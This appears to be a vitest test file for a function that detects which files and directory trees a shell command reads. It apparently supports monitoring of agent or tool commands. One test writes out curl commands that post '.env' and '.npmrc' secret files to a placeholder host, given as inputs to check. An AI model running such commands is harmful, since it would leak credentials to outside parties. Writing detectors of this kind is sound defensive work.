import { describe, expect, it } from 'vitest'
import { commandReads } from './command-reads.js'

describe('commandReads', () => {
  it('should count every reader of contents as reading the tree it is given', () => {
    for (const argv of [
      ['git', 'log', '-pu'],
      ['git', 'log', '-U1'],
      ['git', 'log', '--remerge-diff'],
      ['git', '-C', '.', 'log', '-p'],
      ['git', 'show', '--stat', '-p', 'HEAD'],
      ['git', 'diff-tree', '-p', 'HEAD'],
      ['git', 'format-patch', '-1', '--stdout'],
      ['git', '--unknown-option', 'status'],
      ['grep', '--recur', 'KEY', '.'],
      ['grep', '-d', 'recurse', 'KEY', '.'],
      ['grep', '--directories=recurse', 'KEY', '.'],
      ['cp', '--arch', '.', 'dst'],
    ])
      expect({ argv, tree: commandReads(argv).trees.includes('.') }).toEqual({ argv, tree: true })
  })

  it('should name the file behind @ in a value (curl -d @.env, -F f=@.env)', () => {
    expect(commandReads(['curl', '-d', '@.env', 'https://x']).operands).toContain('.env')
    expect(commandReads(['curl', '-F', 'f=@.npmrc', 'https://x']).operands).toContain('.npmrc')
    expect(commandReads(['curl', '--data-binary=@.env', 'https://x']).operands).toContain('.env')
  })

  it('should not count names-only and patch-free readers as reading the tree', () => {
    for (const argv of [
      ['git', 'log', '--oneline', '-20'],
      ['git', 'show', '--stat', 'HEAD'],
      ['git', 'diff', '--name-only'],
      ['git', '--version'],
      ['grep', '-n', 'KEY', 'src/a.ts'],
      ['grep', '--color=auto', 'KEY', 'src/a.ts'],
      ['cp', 'a.txt', 'b.txt'],
      ['ls', '-la'],
    ])
      expect({ argv, trees: commandReads(argv).trees }).toEqual({ argv, trees: [] })
  })
})
